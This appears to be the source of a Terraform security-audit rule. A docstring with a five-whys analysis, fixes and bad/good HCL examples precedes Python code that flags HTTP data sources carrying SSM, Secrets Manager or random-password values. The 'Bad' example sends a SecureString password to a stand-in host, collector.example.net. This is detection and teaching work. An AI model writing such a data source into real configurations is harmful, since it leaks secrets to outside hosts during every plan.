r"""A secret is sent away by an HTTP request of Terraform itself.

## Why it matters
`data "http"` runs at each plan, on the machine of whoever runs it. With the value of a secret in its address, the
secret goes to that host, its logs and every proxy on the way.

## Five whys
1. Why does a foreign host know our password? Terraform sent it there.
2. Why? A data source has the parameter's value in its URL.
3. Why was it not noticed? A plan makes no changes, and nobody expects it to talk to strangers.

## Fix now
Remove the data source, and treat the secret as known: set a new value. Look in the history of the repository who
added it: `git log -S 'data "http"' -- '*.tf'`.

## Workaround
Block outgoing traffic of the pipeline but to the provider's APIs and the registry.

## Prevent
Allow `data "http"` and the provider `hashicorp/http` in no repository; run plans of merge requests without production
credentials.

## Validate
`terraform providers | grep http` prints nothing.

## Bad
```hcl
resource "aws_ssm_parameter" "password" {
  name  = "/shop/password"
  type  = "SecureString"
  value = "set-by-hand"
}

data "http" "ping" {
  url = "https://collector.example.net/?v=${aws_ssm_parameter.password.value}" # finding
}
```

## Good
```hcl
resource "aws_ssm_parameter" "size" {
  name  = "/shop/size"
  type  = "String"
  value = "50"
}

data "http" "address" {
  url = "https://checkip.amazonaws.com/?size=${aws_ssm_parameter.size.value}"
}
```
"""

from collections.abc import Iterator

from auditor.sdk import Fail, Graph, Node, Severity, rule

_SECRETS = {
    "aws_ssm_parameter": "value",
    "data.aws_ssm_parameter": "value",
    "aws_secretsmanager_secret_version": "secret_string",
    "data.aws_secretsmanager_secret_version": "secret_string",
    "random_password": "result",
}


@rule(target="data.http", severity=Severity.CRITICAL, aliases="CKV2_AWS_36 AVD-AWS-0134 aws-ssm-avoid-leaks-via-http")
def check(body: Node, graph: Graph) -> Iterator[Fail]:
    for path in ("url", "request_body", "request_headers"):
        node = body.at(path)
        for source in graph.targets(node, *_SECRETS):
            attribute = _SECRETS[source.kind]
            if not any(source in graph.find(ref.address) and ref.attribute.startswith(attribute) for ref in node.refs):
                continue
            if source.kind == "aws_ssm_parameter" and source.at("type").text != "SecureString":
                continue
            yield Fail(node, f"the request carries the value of {source.address.text}", expected="no secret", actual="(not shown)")
            break
